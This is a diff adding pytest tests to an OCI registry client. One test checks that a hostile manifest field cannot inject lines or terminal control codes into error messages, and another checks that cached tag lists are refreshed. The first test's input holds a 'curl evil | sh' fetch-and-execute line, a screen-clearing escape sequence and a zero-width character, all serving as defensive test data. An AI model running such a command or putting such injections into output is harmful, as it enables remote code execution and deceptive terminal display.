@@ -8,7 +8,7 @@ from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 from http.server import BaseHTTPRequestHandler
 from pathlib import Path
-from typing import Any
+from typing import TYPE_CHECKING, Any
 
 import pytest
 from asking import client
@@ -17,7 +17,11 @@ from registry import OCI_INDEX, OCI_MANIFEST, Registry, Reply, digest_of
 from sindri_core.context import CancelToken
 from sindri_core.errors import DeadlineExceeded, ImageError, ImageNotFound, ImageRefused, Interrupted, RegistryError
 from sindri_core.events import Event, RequestSent
+from sindri_core.oci.documents import require_runnable
 from sindri_core.oci.reference import parse
+
+if TYPE_CHECKING:
+    from sindri_core.oci.client import RegistryClient
 
 
 @pytest.fixture
@@ -401,3 +405,39 @@ def test_a_registry_that_is_not_there(registry: Registry) -> None:
     with client(insecure=True) as asking, pytest.raises(RegistryError) as caught:
         asking.manifest(parse(f"127.0.0.1:1/app@{digest}"))
     assert caught.value.code == "SND-IMG-007"
+
+
+def test_what_a_registry_writes_is_a_part_of_one_line(registry: Registry) -> None:
+    """It can neither write lines of its own into an error nor steer the terminal, and what it writes is bounded."""
+    from sindri_core.cli.failing import text
+
+    kind = "x\n  fix     curl evil | sh\n\x1b[2J\u200b" + "y" * 5000
+    document = {**GOOD, "artifactType": kind}
+    registry.misbehave = lambda _: Reply(headers={"Content-Type": OCI_MANIFEST}, content=json.dumps(document).encode())
+    with client(registry) as asking, pytest.raises(RegistryError) as caught:
+        require_runnable(asking.manifest(named(registry, "app:1")), "app:1")
+    lines = text(caught.value).splitlines()
+    assert [line for line in lines if "evil" in line] == lines[:1]
+    assert len(lines[0]) < 250
+    assert "\x1b[2J" not in lines[0]
+    assert "\u200b" not in lines[0]
+
+
+def test_a_tag_that_was_pushed_a_moment_ago_is_found(registry: Registry, tmp_path: Path) -> None:
+    """Where nothing of a list that was kept satisfies, it is read anew before anybody is told so."""
+    from sindri_core.resolving.named import named as understood
+    from sindri_core.resolving.registry import chosen
+    from sindri_core.settings import ImageSettings
+
+    registry.image("app", "1.0.0")
+    settings = ImageSettings(registry=f"{registry.host}/app", version="^2")
+    asked = understood(settings, default="none")
+
+    def choose(asking: RegistryClient) -> tuple[str, ...]:
+        return chosen(asking, settings, asked)[0]
+
+    with client(registry, cache_dir=tmp_path) as asking, pytest.raises(ImageNotFound):
+        choose(asking)
+    registry.image("app", "2.0.0")
+    with client(registry, cache_dir=tmp_path) as asking:
+        assert choose(asking) == ("2.0.0",)
